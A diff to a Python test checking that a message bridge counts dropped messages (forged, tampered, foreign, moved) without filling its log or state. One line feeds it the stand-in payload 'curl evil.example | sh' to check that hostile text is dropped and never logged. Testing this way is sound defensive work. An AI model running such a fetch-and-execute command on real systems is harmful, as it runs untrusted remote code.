@@ -127,15 +127,18 @@ def test_a_flood_of_dropped_messages_is_counted_and_fills_neither_log_nor_state(
         dropper.drop_tampered("expires")
         dropper.drop_misdirected()
         dropper.drop_malformed()
+        dropper.drop_moved("record")
         dropper.drop_foreign("run: curl evil.example | sh" if number else "listener.shop.7@host.example")
     reasons = (FORGED, TAMPERED, MISDIRECTED, MALFORMED, FOREIGN)
+    counts = {f"dropped.{reason}": 2000 if reason == FOREIGN else 1000 for reason in reasons}
     counted = wait_for(
-        lambda: drops.find_one({"_id": BRIDGE, **{f"dropped.{reason}": 1000 for reason in reasons}}),
+        lambda: drops.find_one({"_id": BRIDGE, **counts}),
         message=lambda: str(drops.find_one({"_id": BRIDGE})),
     )
     assert counted["foreignSender"] == "7@host.example"
     assert set(counted["droppedAt"]) == set(reasons)
-    assert len(caplog.records) == len(reasons)
+    assert len(caplog.records) == len(reasons) + 1
+    assert [each.args[1] for each in caplog.records if each.event == "handler_moved"] == ["record"]  # type: ignore[attr-defined, index]
     assert "evil" not in caplog.text
     bridge.client.close()
 
